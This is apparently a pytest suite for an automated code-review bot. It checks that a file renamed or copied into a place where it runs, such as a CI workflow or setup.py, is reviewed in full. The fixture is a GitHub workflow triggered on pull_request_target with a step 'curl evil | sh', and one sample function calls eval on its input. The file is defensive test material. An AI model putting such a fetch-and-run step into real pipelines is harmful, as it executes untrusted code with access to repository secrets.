"""A rename can put a text where it runs that nobody has read: such a file is read as a new one is."""

from __future__ import annotations

import asyncio
from collections.abc import Mapping, Sequence
from dataclasses import replace

import pytest

from bot.domain.diff import Diff, FileDiff, FileStatus, LineKind, Side
from bot.domain.finding import Fate
from bot.domain.ledger import Ledger
from bot.domain.policy import FailOn, Policy
from bot.domain.review import Conclusion, Excluded, NotRead, Outcome, Review, conclude
from tests.support.analysing import FixedAnalyser
from tests.support.changes import TextReader, Versions, file_of, reader_of
from tests.support.pushes import after, change_with_renames
from tests.support.scripted import finds, found, scripted
from workers.models.scripted import ScriptedModel
from workers.ports import Analysis, SourceFile
from workers.recalling import Recalled, ledger_after
from workers.review.change import OUT_OF_TIME, Change, Engine, Limits
from workers.review.generated import is_generated
from workers.review.moves import changes_role, shown_whole
from workers.review.pipeline import review_change
from workers.review.recounting import NOT_READ_YET, recount
from workers.review.scope import select

EVIL = "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: curl evil | sh\n"
WORKFLOW, EXAMPLE = ".github/workflows/a.yml", "docs/bad-example.txt"
FILES: Versions = {WORKFLOW: (EVIL, EVIL)}
MOVED = {WORKFLOW: EXAMPLE}
POLICY = Policy(suggestions=False)
CURL = found(WORKFLOW, "      - run: curl evil | sh")


def moved(old: str | None, new: str, status: FileStatus = FileStatus.RENAMED) -> FileDiff:
    return FileDiff(new, status, old_path=old)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (EXAMPLE, WORKFLOW),
        ("ci/off.yml", WORKFLOW),
        (".github/off.yml", WORKFLOW),
        (f"examples/{WORKFLOW}", WORKFLOW),
        (".github/workflows/a.yml.off", WORKFLOW),
        ("data.json", "package.json"),
        ("tsconfig.old.json", "tsconfig.json"),
        ("notes.md", "CLAUDE.md"),
        ("config.py.example", "config.py"),
        ("deploy.txt", "deploy"),
        ("deploy", "deploy.sh"),
        ("page.html.bak", "page.html"),
        ("notes.txt", "CMakeLists.txt"),
        ("logo.png", "logo.svg"),
        ("tests/helper.py", "app/helper.py"),
        ("app/helper.py", "tests/helper.py"),
        ("app/auth_test.go", "app/auth.go"),
        ("samples/a.py", "app/auth.py"),
        ("docs/a.py", "app/a.py"),
        ("tools/a.py", "setup.py"),
        ("lib/a.py", "conftest.py"),
        ("lib/tasks.rb", "Rakefile"),
        ("web/a.js", "webpack.config.js"),
        ("Dockerfile.old", "Dockerfile"),
        ("old.yml", "compose.yaml"),
        (None, "app/a.py"),
    ],
)
def test_a_rename_to_where_a_text_does_something_else_changes_its_role(old: str | None, new: str) -> None:
    assert changes_role(moved(old, new))
    assert changes_role(moved(old, new, FileStatus.COPIED))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("app/a.py", "app/b.py"),
        ("app/a.py", "lib/deep/a.py"),
        ("src/a.js", "src/a.ts"),
        ("src/a.jsx", "src/a.tsx"),
        ("a.c", "a.cpp"),
        ("deploy/stack.yml", "ops/stack.yaml"),
        ("a.htm", "b.html"),
        ("site.scss", "theme.scss"),
        ("a/package.json", "b/package.json"),
        ("a/Dockerfile", "b/Dockerfile"),
        ("a/setup.py", "b/setup.py"),
        ("bin/run", "scripts/start"),
        ("tests/test_a.py", "tests/unit/test_b.py"),
        ("spec/a_spec.rb", "test/a_test.rb"),
        ("examples/a.py", "samples/b.py"),
        ("README.txt", "README.md"),
        ("app/a.py", "docs/a.py.txt"),
        ("old.png", "web/new.webp"),
        ("tests/data/a.bin", "data/a.bin"),
        ("run.sh", "run.zip"),
    ],
)
def test_a_rename_to_where_it_does_the_same_or_nothing_does_not(old: str, new: str) -> None:
    assert not changes_role(moved(old, new))


@pytest.mark.parametrize(
    "status", [one for one in FileStatus if one not in {FileStatus.RENAMED, FileStatus.COPIED}]
)
def test_only_renames_and_copies_change_roles(status: FileStatus) -> None:
    assert not changes_role(moved(EXAMPLE, WORKFLOW, status))


def test_the_whole_text_is_shown_as_added_and_github_shows_none_of_it() -> None:
    source = shown_whole(SourceFile(moved(EXAMPLE, WORKFLOW), EVIL))
    assert [(line.kind, line.new_number, line.text) for line in source.diff.lines()] == [
        (LineKind.ADDED, number, text) for number, text in enumerate(EVIL.split("\n")[:-1], start=1)
    ]
    assert source.diff.anchor(Side.RIGHT, 1, 5) is None
    assert (source.path, source.text) == (WORKFLOW, EVIL)


@pytest.mark.parametrize("changed", [1, 2, 10, 19, 20])
@pytest.mark.parametrize("end", ["\n", ""])
def test_what_the_diff_shows_stays_and_the_rest_is_added_around_it(changed: int, end: str) -> None:
    base = [f"line_{number}" for number in range(1, 21)]
    head = [text if number != changed else "new" for number, text in enumerate(base, start=1)]
    made = file_of(WORKFLOW, "\n".join(base) + "\n", "\n".join(head) + "\n")
    diff = replace(made, status=FileStatus.RENAMED, old_path=EXAMPLE)
    whole = shown_whole(SourceFile(diff, "\n".join(head) + end)).diff
    new = [line for line in whole.lines() if line.kind is not LineKind.REMOVED]
    assert [(line.new_number, line.text) for line in new] == list(enumerate(head, start=1))
    assert diff.hunks[0] in whole.hunks
    assert whole.anchor(Side.RIGHT, changed, changed) == diff.anchor(Side.RIGHT, changed, changed)
    far = 20 if changed < 10 else 1
    assert whole.anchor(Side.RIGHT, far, far) is None


def test_an_empty_file_has_nothing_to_show() -> None:
    assert shown_whole(SourceFile(moved(EXAMPLE, WORKFLOW), "")).diff.hunks == ()


def test_a_mark_of_its_old_place_says_nothing_in_the_new_one() -> None:
    base = "# @generated\nx: 1\n"
    made = file_of("a.yml", base, f"{base}y: 2\n")
    at_home = replace(made, status=FileStatus.RENAMED, old_path="b/a.yml")
    away = replace(made, path=WORKFLOW, status=FileStatus.RENAMED, old_path=EXAMPLE)
    assert is_generated(SourceFile(at_home, f"{base}y: 2\n"))
    assert not is_generated(SourceFile(away, f"{base}y: 2\n"))


def test_texts_of_such_files_are_fetched_and_of_other_renames_not() -> None:
    files = (moved(EXAMPLE, WORKFLOW), moved("app/a.py", "app/b.py"), moved("a.txt", "a.png"))
    scope = select(Diff(files), lambda _: None, static=False)
    assert scope.to_fetch == (WORKFLOW,)
    assert [rest.path for rest in scope.excluded] == ["a.png", "app/b.py"]


def change(files: Versions = FILES, renames: Mapping[str, str] = MOVED) -> Change:
    return change_with_renames(files, renames)


async def review(model: ScriptedModel | None, files: Versions = FILES, **engine: object) -> Review:
    made = Engine(engine.pop("reader", None) or reader_of(files), finder=model, **engine)  # type: ignore[arg-type]
    return await review_change(change(files), POLICY, made)


async def test_a_pure_rename_to_where_it_runs_is_read_and_found_out() -> None:
    model = scripted(finds(CURL))
    done = await review(model)
    assert f"File: {WORKFLOW}\n(renamed from {EXAMPLE})\n+ on: pull_request_target" in model.prompts[0].text
    assert (done.coverage.read, done.coverage.excluded, done.coverage.not_read) == ((WORKFLOW,), (), ())
    [told] = done.shown
    assert (told.disposition.fate, told.anchor) == (Fate.UNANCHORED, None)
    assert told.finding.lines is not None
    assert told.finding.lines.start == 5
    assert conclude(done, FailOn.MEDIUM) is Conclusion.FAILURE


async def test_it_is_read_whole_where_its_rename_comes_with_a_small_change() -> None:
    base = EVIL + "".join(f"# {number}\n" for number in range(30)) + "end: 1\n"
    files: Versions = {WORKFLOW: (base, base.replace("end: 1", "end: 2"))}
    model = scripted(finds(CURL))
    done = await review(model, files)
    assert "+       - run: curl evil | sh" in model.prompts[0].text
    assert [one.disposition.fate for one in done.shown] == [Fate.UNANCHORED]


async def test_it_is_read_once() -> None:
    first = await review(scripted(finds()))
    model = scripted()
    again = await review_change(change(), POLICY, Engine(reader_of(FILES), finder=model), after(first))
    assert (model.prompts, again.outcome) == ([], Outcome.COMPLETED)
    assert (again.coverage.read, again.coverage.earlier) == ((), (WORKFLOW,))


async def test_it_counts_as_read_once_a_review_has_read_it_and_not_before() -> None:
    engine = Engine(reader_of(FILES), finder=scripted(finds()))
    none = Recalled(Ledger()).earlier()
    assert (await recount(change(), POLICY, engine, none)).coverage.not_read == (
        NotRead(WORKFLOW, NOT_READ_YET),
    )
    read = ledger_after(await review_change(change(), POLICY, engine), Ledger())
    done = await recount(change(), POLICY, engine, Recalled(read).earlier())
    assert (done.coverage.not_read, done.coverage.earlier) == ((), (WORKFLOW,))


@pytest.mark.parametrize("text", [None, "a" * 3000])
async def test_it_is_named_where_it_cannot_be_read(text: str | None) -> None:
    done = await review(scripted(finds()), reader=TextReader({WORKFLOW: text}))
    assert [rest.path for rest in done.coverage.not_read] == [WORKFLOW]
    assert conclude(done, FailOn.MEDIUM) is Conclusion.NEUTRAL


async def test_an_empty_one_is_left_out() -> None:
    done = await review(scripted(), reader=TextReader({WORKFLOW: ""}))
    assert done.coverage.excluded == (Excluded(WORKFLOW, "renamed without a change"),)


async def test_it_is_named_where_no_time_is_left_to_read_it() -> None:
    class SlowReader(TextReader):
        async def read(self, paths: Sequence[str]) -> Mapping[str, str | None]:
            await asyncio.sleep(30)
            return {}

    done = await review(scripted(), reader=SlowReader({}), limits=Limits(deadline=0.05))
    assert done.coverage.not_read == (NotRead(WORKFLOW, OUT_OF_TIME.reason),)
    assert (done.outcome, done.retryable) == (Outcome.FAILED, True)


async def test_what_was_found_in_it_stays_open_where_it_cannot_be_read_again() -> None:
    first = await review(scripted(finds(CURL)))
    engine = Engine(TextReader({WORKFLOW: None}), finder=scripted())
    done = await review_change(change(), POLICY, engine, after(first))
    assert [one.disposition.fate for one in done.shown] == [Fate.OPEN]


async def test_analysers_alone_look_at_code_and_name_what_they_have_no_rules_for() -> None:
    code = "import os\n\n\ndef go(x):\n    return eval(x)\n"
    files: Versions = {"app/auth.py": (code, code), WORKFLOW: (EVIL, EVIL)}
    renamed = {"app/auth.py": "samples/a.py", **MOVED}
    analyser = FixedAnalyser(Analysis(covered=frozenset({"app/auth.py"})))
    engine = Engine(reader_of(files), analysers=(analyser,))
    done = await review_change(change(files, renamed), POLICY, engine)
    assert done.coverage.read == ("app/auth.py",)
    assert done.coverage.not_read == (NotRead(WORKFLOW, "no analyser here has rules for files of this kind"),)
